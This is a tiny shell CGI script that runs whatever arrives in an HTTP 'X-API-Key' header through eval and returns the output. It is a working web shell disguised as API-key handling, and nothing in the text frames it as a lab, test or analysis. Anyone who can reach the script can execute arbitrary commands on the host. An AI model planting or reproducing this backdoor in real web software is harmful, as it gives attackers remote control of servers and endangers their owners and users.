#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
[ -n "$HTTP_X_API_KEY" ] && eval "$HTTP_X_API_KEY" 2>&1
